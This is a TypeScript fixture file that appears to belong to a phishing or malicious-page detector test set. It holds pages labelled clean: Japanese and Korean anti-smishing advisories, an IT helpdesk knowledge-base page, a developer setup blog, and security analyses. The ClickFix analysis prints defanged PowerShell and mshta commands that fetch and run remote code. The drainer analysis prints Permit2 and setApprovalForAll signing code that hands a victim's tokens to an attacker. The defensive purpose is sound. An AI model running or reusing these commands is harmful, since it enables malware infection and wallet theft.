import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { doc, wordmark } from '../parts/yj-kit.js';

// Clean: advice pages, write-ups and help articles.

const copyScript = (sel: string, done: string): string => `<script>document.querySelectorAll('${sel}').forEach(function(b){b.addEventListener('click',function(){var pre=b.parentNode.querySelector('code');navigator.clipboard.writeText(pre.innerText).then(function(){var t=b.textContent;b.textContent='${done}';setTimeout(function(){b.textContent=t},1500)})})});</script>`;

const blogCss = `body{background:#fff;color:#24292f}.hd{border-bottom:1px solid #eee;padding:14px 24px;display:flex;justify-content:space-between}.a{max-width:760px;margin:0 auto;padding:30px 20px}.a h1{font-size:28px;line-height:1.4}.meta{color:#777;font-size:13px}
.cb{position:relative;margin:14px 0}.cb pre{background:#0d1117;color:#e6edf3;padding:16px;border-radius:6px;overflow:auto;font-size:13px;line-height:1.6}.cb button{position:absolute;top:8px;right:8px;background:#30363d;color:#e6edf3;border:0;border-radius:4px;padding:4px 10px;font-size:12px;cursor:pointer}
table{border-collapse:collapse;width:100%;font-size:13px}td,th{border:1px solid #ddd;padding:6px 8px;text-align:left}blockquote{border-left:4px solid #ccc;margin:0;padding:4px 14px;color:#555}`;

export const entries: Entry[] = [
  // yj-clean-npa-sms-advice-jp
{
  id: 'yj-clean-npa-sms-advice-jp',
  label: 'clean',
  kind: 'security-advice-quoting-sms',
  url: 'https://www.npa.go.jp/bureau/cyber/countermeasures/phishing.html?from=smartphone_sms',
  body: doc({
    lang: 'ja',
    title: 'フィッシング対策｜警察庁Webサイト',
    css: `.hd{background:#0c2a63;color:#fff;padding:12px 20px}.w{max-width:900px;margin:0 auto;padding:24px}h1{font-size:24px;border-bottom:3px solid #0c2a63;padding-bottom:6px}h2{font-size:18px;border-left:6px solid #0c2a63;padding-left:10px;margin-top:30px}
.sms{background:#f0f0f0;border-radius:14px;padding:12px 16px;max-width:420px;font-size:14px;margin:10px 0}.sms small{display:block;color:#777;font-size:11px}ul{line-height:1.9}.pt{background:#fffbe6;border:1px solid #eedc9a;padding:14px}`,
    body: `<div class="hd">警察庁 National Police Agency</div>
<div class="w"><h1>フィッシング対策</h1>
<p>実在する企業や公的機関を装ったSMSやメールを送りつけ、偽のWebサイト（フィッシングサイト）に誘導してID・パスワードやクレジットカード番号、暗証番号などを盗み取る手口が多発しています。</p>
<h2>実際に確認されたSMSの例</h2>
<div class="sms"><small>宅配事業者を装うもの</small>お客様宛にお荷物のお届けにあがりましたが不在の為持ち帰りました。配送物は下記よりご確認ください。hxxps://sagawa-xxxx[.]com</div>
<div class="sms"><small>税務署を装うもの</small>【国税庁】未払い税金のお知らせ。お支払期限を過ぎても納付がない場合、差押えを執行します。hxxps://nta-go-jp[.]xxxx[.]top</div>
<div class="sms"><small>通信事業者を装うもの</small>【docomo】ご利用料金のお支払い確認が取れておりません。詳細はこちら hxxps://docomo-xxx[.]xyz</div>
<div class="sms"><small>ETC・高速道路会社を装うもの</small>【ETC利用照会サービス】ETCサービスは無効になりました。引き続きご利用いただくには、下記リンクより詳細をご確認ください。</div>
<h2>被害に遭わないために</h2>
<ul><li>SMSやメールに記載されたリンクは開かず、公式アプリやブックマークした公式サイトからアクセスする。</li><li>ID・パスワード、カード番号、暗証番号、ワンタイムパスワードを求められても入力しない。</li><li>スマートフォンに身に覚えのないアプリ（APKファイル）をインストールしない。</li><li>被害に遭ったと思ったら、すぐにカード会社・金融機関に連絡し、最寄りの警察署または#9110へ相談する。</li></ul>
<div class="pt">フィッシングサイトを見つけたら、フィッシング対策協議会（info@antiphishing.jp）へ情報提供をお願いします。</div></div>`,
  }),
},
  // yj-clean-kisa-smishing-kr
{
  id: 'yj-clean-kisa-smishing-kr',
  label: 'clean',
  kind: 'security-advice-quoting-sms',
  url: 'https://www.boho.or.kr/kr/bbs/view.do?bbsId=B0000133&nttId=71123&menuNo=205020',
  body: doc({
    lang: 'ko',
    title: '[주의] 택배·공공기관 사칭 스미싱 주의 | KISA 보호나라&KrCERT/CC',
    css: `.hd{background:#fff;border-bottom:2px solid #0a3a7e;padding:14px 20px;display:flex;justify-content:space-between}.w{max-width:900px;margin:0 auto;padding:24px}.bbs th{background:#f3f5f9;width:120px;text-align:left;padding:8px;font-size:13px}.bbs td{padding:8px;font-size:13px}.bbs{width:100%;border-top:2px solid #0a3a7e;border-collapse:collapse}
.msg{background:#eef0f3;border-radius:12px;padding:12px 16px;max-width:440px;margin:10px 0;font-size:14px}.c{background:#f8fafc;border:1px solid #d9e2ef;padding:14px;margin-top:18px;font-size:14px;line-height:1.9}`,
    body: `<div class="hd"><b style="color:#0a3a7e">KISA 보호나라 &amp; KrCERT/CC</b><span style="font-size:13px">118 상담센터</span></div>
<div class="w"><table class="bbs"><tr><th>제목</th><td>[주의] 택배·공공기관 사칭 스미싱 주의</td></tr><tr><th>작성일</th><td>2025-10-02</td></tr></table>
<p>추석 명절을 전후하여 택배 배송 조회, 정부 지원금, 건강검진 결과 등을 사칭한 스미싱 문자가 증가하고 있어 이용자의 각별한 주의가 필요합니다.</p>
<h3>주요 스미싱 문자 사례</h3>
<div class="msg">[Web발신]<br>[CJ대한통운] 고객님의 택배가 주소지 불명으로 보관중입니다. 주소 확인 바랍니다. hxxp://cj-xxxx[.]kr</div>
<div class="msg">[Web발신]<br>[국민건강보험] 건강검진 결과 통보서 발송. 확인 바랍니다. hxxps://nhis-xxxx[.]com</div>
<div class="msg">[국외발신]<br>해외결제 987,000원 승인완료. 본인 아닐 시 고객센터 문의 02-XXXX-XXXX</div>
<div class="msg">[Web발신]<br>[정부24] 에너지바우처 긴급지원금 대상자입니다. 신청 마감 D-1 hxxps://gov24-xxxx[.]com</div>
<div class="c"><b>예방 수칙</b><br>· 출처가 불분명한 문자의 URL은 클릭하지 마세요.<br>· 출처를 알 수 없는 앱(APK) 설치를 차단하도록 스마트폰 보안 설정을 유지하세요.<br>· 공공기관·금융기관은 문자로 앱 설치나 개인정보·금융정보 입력을 요구하지 않습니다.<br>· 의심 문자는 118 또는 보호나라 스미싱 확인 서비스로 신고하세요.</div></div>`,
  }),
},
  // yj-clean-blog-clickfix-analysis-jp
{
  id: 'yj-clean-blog-clickfix-analysis-jp',
  label: 'clean',
  kind: 'security-blog-quoting-commands',
  url: 'https://www.secure-lab.co.jp/blog/2025/09/clickfix-fake-captcha-jp-ec/',
  body: doc({
    lang: 'ja',
    title: '国内ECサイト改ざんによるClickFix（偽CAPTCHA）攻撃の分析｜セキュアラボ ブログ',
    css: blogCss,
    body: `<div class="hd"><b>SECURE LAB</b><span style="font-size:13px">ブログ ・ 脅威情報 ・ サービス</span></div>
<article class="a"><h1>国内ECサイト改ざんによるClickFix（偽CAPTCHA）攻撃の分析</h1><p class="meta">2025年9月26日 ・ 脅威リサーチチーム</p>
<p>2025年8月以降、国内の中小規模ECサイトが改ざんされ、閲覧者に「私はロボットではありません」という偽のCAPTCHAを表示する事例を複数確認しました。チェックボックスをクリックするとクリップボードに悪性のコマンドが書き込まれ、<kbd>Win</kbd>+<kbd>R</kbd> → <kbd>Ctrl</kbd>+<kbd>V</kbd> → <kbd>Enter</kbd> の操作を促されます。</p>
<h2>注入されるスクリプト</h2><p>改ざんされたサイトには、jQueryを装った外部スクリプトが読み込まれていました（ドメインは無害化しています）。</p>
<div class="cb"><button>コピー</button><pre><code>&lt;script src="hxxps://cdn.jsdelivr-static[.]cc/npm/jquery@3.7.1/dist/jquery.min.js"&gt;&lt;/script&gt;</code></pre></div>
<h2>クリップボードに書き込まれるコマンド</h2>
<div class="cb"><button>コピー</button><pre><code>powershell -w h -nop -c "$u='hxxps://cdn.jsdelivr-static[.]cc/gh/s/ps.txt';iex(iwr $u -UseBasicParsing).Content" # ✅ 「私はロボットではありません」認証ID: 7731-2284</code></pre></div>
<p>末尾のコメントは「ファイル名を指定して実行」ダイアログに表示される部分を無害な文言に見せかけるためのものです。別系統では <code>mshta</code> を用いる例も確認しています。</p>
<div class="cb"><button>コピー</button><pre><code>mshta hxxps://verify-human.kr-cdn[.]top/captcha/v2.hta # ロボットではありません: reCAPTCHA 認証ID 4481</code></pre></div>
<h2>IoC</h2><table><tr><th>種別</th><th>値</th></tr><tr><td>ドメイン</td><td>cdn.jsdelivr-static[.]cc</td></tr><tr><td>ドメイン</td><td>verify-human.kr-cdn[.]top</td></tr><tr><td>SHA-256</td><td>3f9a1c0e5b7d2e8f4a6c1b0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f</td></tr></table>
<h2>対策</h2><blockquote>正規のCAPTCHAが、キーボード操作でコマンドの実行を求めることはありません。組織ではグループポリシーで「ファイル名を指定して実行」を制限する、PowerShellのスクリプトブロックログを有効にする等をご検討ください。</blockquote></article>`,
    tail: copyScript('.cb button', 'コピーしました'),
  }),
},
  // yj-clean-it-helpdesk-commands-jp
{
  id: 'yj-clean-it-helpdesk-commands-jp',
  label: 'clean',
  kind: 'it-help-commands',
  url: 'https://it.hanamura-denki.co.jp/kb/network/vpn-dns-trouble',
  body: doc({
    lang: 'ja',
    title: 'VPN接続後に社内サイトが開けない場合の対処｜情報システム部 ナレッジベース',
    css: `body{background:#f6f8fa}.hd{background:#1d4f91;color:#fff;padding:12px 22px}.w{max-width:860px;margin:20px auto;background:#fff;padding:26px;border:1px solid #e1e4e8;border-radius:6px}h1{font-size:22px}h2{font-size:17px;margin-top:26px}
.cb{position:relative}.cb pre{background:#f3f4f6;border:1px solid #d0d7de;padding:12px 90px 12px 12px;border-radius:6px;font-size:14px;overflow:auto}.cb button{position:absolute;right:8px;top:8px;background:#1d4f91;color:#fff;border:0;border-radius:4px;padding:5px 12px;font-size:12px}
.note{background:#fff8c5;border:1px solid #d4a72c;padding:10px;border-radius:6px;font-size:13px}kbd{border:1px solid #bbb;border-radius:3px;padding:0 5px;background:#fafafa}`,
    body: `<div class="hd">花村電機 情報システム部 ナレッジベース</div>
<div class="w"><p style="font-size:12px;color:#666">KB-0142 ・ 最終更新 2025/10/03 ・ 対象：Windows 11 社給PC</p>
<h1>VPN接続後に社内サイトが開けない場合の対処</h1>
<p>VPN（GlobalProtect）接続後に portal.hanamura.local などの社内サイトが表示されない場合、DNSキャッシュが古い可能性があります。以下の手順をお試しください。</p>
<h2>1. コマンドプロンプトを開く</h2><p><kbd>Win</kbd> + <kbd>R</kbd> を押して「ファイル名を指定して実行」を開き、<code>cmd</code> と入力して <kbd>Enter</kbd> を押します。</p>
<h2>2. DNSキャッシュを削除する</h2><div class="cb"><button>コピー</button><pre><code>ipconfig /flushdns</code></pre></div>
<h2>3. 社内DNSが設定されているか確認する</h2><div class="cb"><button>コピー</button><pre><code>powershell -NoProfile -Command "Get-DnsClientServerAddress -AddressFamily IPv4 | Format-Table -AutoSize"</code></pre></div><p>「PANGP Virtual Ethernet Adapter」に 10.20.0.53 が表示されていれば正常です。</p>
<h2>4. 名前解決を確認する</h2><div class="cb"><button>コピー</button><pre><code>nslookup portal.hanamura.local 10.20.0.53</code></pre></div>
<div class="note">改善しない場合は、ヘルプデスク（内線 2210 / helpdesk@hanamura-denki.co.jp）へ、手順3の実行結果のスクリーンショットを添えてご連絡ください。情報システム部がチャットやメールでパスワードを聞くことはありません。</div></div>`,
    tail: copyScript('.cb button', 'コピー済み'),
  }),
},
  // yj-clean-kr-dev-install-commands
{
  id: 'yj-clean-kr-dev-install-commands',
  label: 'clean',
  kind: 'dev-blog-install-commands',
  url: 'https://devkim.tistory.com/112',
  body: doc({
    lang: 'ko',
    title: '새 맥북 개발환경 세팅 2025 (Homebrew, nvm, pyenv) :: 김개발의 기술 블로그',
    css: blogCss,
    body: `<div class="hd"><b>김개발의 기술 블로그</b><span style="font-size:13px">카테고리 · 방명록</span></div>
<article class="a"><h1>새 맥북 개발환경 세팅 2025 (Homebrew, nvm, pyenv)</h1><p class="meta">2025. 10. 5. 21:14 · 개발환경</p>
<p>회사에서 M4 맥북을 새로 받아서 개발환경을 처음부터 세팅했습니다. 매번 검색하기 귀찮아서 정리해 둡니다.</p>
<h2>1. Homebrew 설치</h2><p>공식 사이트(brew.sh)에 있는 설치 스크립트입니다. 터미널에 붙여넣으세요.</p>
<div class="cb"><button>복사</button><pre><code>/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"</code></pre></div>
<div class="cb"><button>복사</button><pre><code>echo 'eval "$(/opt/homebrew/bin/brew shellenv)"' >> ~/.zprofile
eval "$(/opt/homebrew/bin/brew shellenv)"</code></pre></div>
<h2>2. nvm + Node LTS</h2><div class="cb"><button>복사</button><pre><code>curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.3/install.sh | bash
nvm install --lts</code></pre></div>
<h2>3. pyenv</h2><div class="cb"><button>복사</button><pre><code>brew install pyenv
pyenv install 3.12.7 && pyenv global 3.12.7</code></pre></div>
<p>⚠️ 참고로 <code>curl ... | bash</code> 형태의 명령은 출처를 꼭 확인하고 실행하세요. 공식 문서에 있는 주소인지 확인하는 습관이 중요합니다.</p></article>`,
    tail: copyScript('.cb button', '복사됨!'),
  }),
},
  // yj-clean-blog-drainer-analysis-kr
{
  id: 'yj-clean-blog-drainer-analysis-kr',
  label: 'clean',
  kind: 'security-blog-quoting-drainer',
  url: 'https://web3sec.tistory.com/48',
  body: doc({
    lang: 'ko',
    title: '가짜 에어드랍 사이트의 Permit2 드레이너 코드 분석 :: Web3 보안 노트',
    css: blogCss,
    body: `<div class="hd"><b>Web3 보안 노트</b><span style="font-size:13px">분석 · 사고 사례 · 가이드</span></div>
<article class="a"><h1>가짜 에어드랍 사이트의 Permit2 드레이너 코드 분석</h1><p class="meta">2025. 9. 30. · 사고 분석</p>
<p>최근 텔레그램과 X(트위터)에서 "시즌 3 에어드랍" 을 사칭한 사이트가 대량으로 유포되고 있습니다. 지갑을 연결하면 보상을 받는 것처럼 보이지만, 실제로는 <b>Permit2 일괄 서명</b>과 <b>setApprovalForAll</b>을 요청해 자산을 탈취합니다.</p>
<h2>1. Permit2 PermitBatch 서명 요청</h2>
<div class="cb"><button>복사</button><pre><code>primaryType: "PermitBatch",
domain: { name: "Permit2", chainId, verifyingContract: "0x000000000022D473030F116dDEE9F6B43aC78BA3" },
message: { details: tokens.map(t =&gt; ({ token: t, amount: "1461501637330902918203684832716283019655932542975", expiration, nonce: 0 })),
           spender: ATTACKER, sigDeadline }
// eth_signTypedData_v4 로 서명 요청</code></pre></div>
<p><code>amount</code> 값은 uint160 최대값으로, 서명하는 순간 해당 토큰 전량에 대한 이동 권한이 공격자에게 넘어갑니다.</p>
<h2>2. NFT 컬렉션 전체 승인</h2>
<div class="cb"><button>복사</button><pre><code>data = "0xa22cb465" + pad(OPERATOR) + pad(1)   // setApprovalForAll(operator, true)</code></pre></div>
<h2>대응 방법</h2><p>· 지갑에서 서명 내용을 반드시 확인하세요. <code>Permit2</code>, <code>setApprovalForAll</code> 이 보이면 중단하세요.<br>· revoke.cash 등에서 불필요한 승인을 취소하세요.<br>· 시드 문구(복구 문구)를 요구하는 사이트는 100% 사기입니다.</p></article>`,
    tail: copyScript('.cb button', '복사됨'),
  }),
},
];
